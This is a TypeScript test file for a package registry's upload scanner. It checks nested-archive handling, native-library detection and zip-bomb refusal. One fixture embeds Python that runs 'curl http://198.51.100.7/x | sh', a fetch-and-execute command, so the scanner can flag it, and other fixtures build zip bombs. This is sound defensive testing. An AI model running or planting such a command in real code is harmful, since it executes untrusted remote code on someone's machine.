import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { scanPack, type PackFile } from '@registry/pack-scan'
import { loadParsers } from '@registry/syntax'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { allOf } from '../../../test/all-of.ts'
import { expectRefusal, readBytes, sampleManifest, zipOf } from '../../../test/archives.ts'
import { analyseFiles } from '../analysis/analyse-files.ts'
import { archiveLimits } from './archive-limits.ts'
import { openNestedZip } from './nested-zip.ts'
import { readFolder } from './read-folder.ts'
import { readSources } from './read-sources.ts'

const parsers = await loadParsers()
const library = Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(600, 1)])
const mib = 1024 ** 2
let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'nested-'))
})
afterAll(() => rm(folder, { recursive: true, force: true }))

async function filesOf(bytes: Buffer): Promise<PackFile[]> {
  const path = join(folder, `${Math.random()}.zip`)
  await writeFile(path, bytes)
  return allOf(readSources(path))
}

const packed = async (files: Parameters<typeof zipOf>[0]): Promise<Buffer> =>
  zipOf({ 'pyproject.toml': sampleManifest, '__init__.py': '', ...files })

const placesOf = (files: PackFile[], rule: string): string[] =>
  scanPack(parsers, files).findings.flatMap((finding) => (finding.rule === rule ? [finding.file] : []))

describe('a native library is found in a nested archive', () => {
  it.each(['wheels/a.whl', 'a.egg', 'a.zip', 'data.bin'])('named %s', async (name) => {
    const files = await filesOf(await packed({ [name]: await zipOf({ 'native/b.so': library }) }))
    expect(placesOf(files, 'native-binary')).toEqual([`${name}//native/b.so`])
  })

  it('of a folder', async () => {
    const pack = join(folder, 'pack')
    await mkdir(pack)
    await writeFile(join(pack, '__init__.py'), '')
    await writeFile(join(pack, 'a.whl'), await zipOf({ 'b.so': library }))
    expect(placesOf(await allOf(readFolder(pack)), 'native-binary')).toEqual(['a.whl//b.so'])
  })
})

it('code in a nested archive is scanned, and defines no comfy nodes', async () => {
  const source =
    'import os\nos.system("curl http://198.51.100.7/x | sh")\nclass A: pass\nNODE_CLASS_MAPPINGS = {"A": A}\n'
  const files = await filesOf(await packed({ 'a.zip': await zipOf({ '__init__.py': source }) }))
  const { extraction, scan } = analyseFiles(parsers, files)
  expect(scan.findings.map(({ file }) => file)).toContain('a.zip//__init__.py')
  expect(extraction.nodes).toEqual([])
})

it('an archive in an archive in an archive is not opened', async () => {
  const deep = await zipOf({ 'deep.zip': await zipOf({ 'b.so': library }) })
  const files = await filesOf(await packed({ 'a.zip': deep }))
  expect(files.map(({ path }) => path)).toContain('a.zip//deep.zip')
  expect(placesOf(files, 'native-binary')).toEqual([])
})

it('a damaged archive and a data file are not opened', async () => {
  const sound = await zipOf({ 'b.so': library })
  const archive = await packed({ 'cut.zip': sound.subarray(0, -30), 'weights.pt': sound })
  expect((await readBytes(archive)).nestedArchives).toBe(2)
  expect((await filesOf(archive)).filter(({ path }) => path.includes('//'))).toEqual([])
})

describe('an upload is refused for a nested archive', () => {
  it('with a too high compression ratio', async () => {
    const bomb = await zipOf({ 'zeros.bin': Buffer.alloc(80 * mib) })
    await expectRefusal(await packed({ 'bomb.zip': bomb }), 'archive_ratio', 'bomb.zip')
  })

  it('that is compressed a second time', async () => {
    // Each file alone stays within the compression ratio of a small archive.
    const zeros = await zipOf({ 'zeros.bin': Buffer.alloc(15 * mib) })
    const six = Object.fromEntries(Array.from({ length: 6 }, (_value, place) => [`${place}.zip`, zeros]))
    await expectRefusal(await packed(six), 'archive_ratio', '.zip')
  })
})

it('a review skips a nested archive beyond the limits', async () => {
  const bomb = await zipOf({ 'zeros.bin': Buffer.alloc(80 * mib) })
  const files = await filesOf(await packed({ 'bomb.zip': bomb, 'a.zip': await zipOf({ 'b.so': library }) }))
  expect(placesOf(files, 'native-binary')).toEqual(['a.zip//b.so'])
})

it('files and bytes count towards the limits of all nested archives together', async () => {
  const bytes = await zipOf({ 'a.py': 'a', 'b.py': 'b' })
  const file = { path: 'a.zip', size: bytes.length, bytes: () => Promise.resolve(bytes) }
  const { entries, unpackedBytes } = archiveLimits
  const all = { entries: 3, bytes: 10, packedBytes: 1000 }
  await openNestedZip(file, all)
  expect(all).toEqual({ entries: 5, bytes: 12, packedBytes: 1000 })
  const many = openNestedZip(file, { ...all, entries: entries - 1 })
  await expect(many).rejects.toMatchObject({ code: 'archive_too_many_files' })
  const large = openNestedZip(file, { ...all, bytes: unpackedBytes - 1 })
  await expect(large).rejects.toMatchObject({ code: 'archive_too_large_unpacked' })
})
